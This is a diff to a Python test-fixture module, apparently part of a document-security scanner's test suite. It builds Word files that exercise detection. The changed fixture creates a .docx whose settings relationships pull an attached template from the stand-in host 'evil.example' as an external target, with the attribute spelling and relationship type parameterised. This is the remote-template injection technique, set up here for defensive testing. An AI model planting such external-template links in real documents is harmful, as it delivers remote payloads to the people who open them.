@@ -93,14 +93,22 @@ def docx_with_macros_by_type() -> bytes:
     return with_part(a_docx(), "[Content_Types].xml", wordy)
 
 
-def docx_that_fetches() -> bytes:
-    """Takes its template from elsewhere."""
+def docx_that_fetches(mode: bytes = b'TargetMode="External"', kind: bytes = b"attachedTemplate") -> bytes:
+    """Takes its template from elsewhere; ``mode`` is how the attribute is written."""
     rels = (
         b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
         b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
-        b'attachedTemplate" Target="http://evil.example/a.dotm" TargetMode="External"/></Relationships>'
+        + kind
+        + b'" Target="http://evil.example/a.dotm" '
+        + mode
+        + b"/></Relationships>"
     )
-    return with_part(a_docx(), "word/_rels/settings.xml.rels", rels)
+    return docx_with_relationships(rels)
+
+
+def docx_with_relationships(text: bytes) -> bytes:
+    """A Word file that says this of what its settings point to."""
+    return with_part(a_docx(), "word/_rels/settings.xml.rels", text)
 
 
 def docx_bomb() -> bytes:
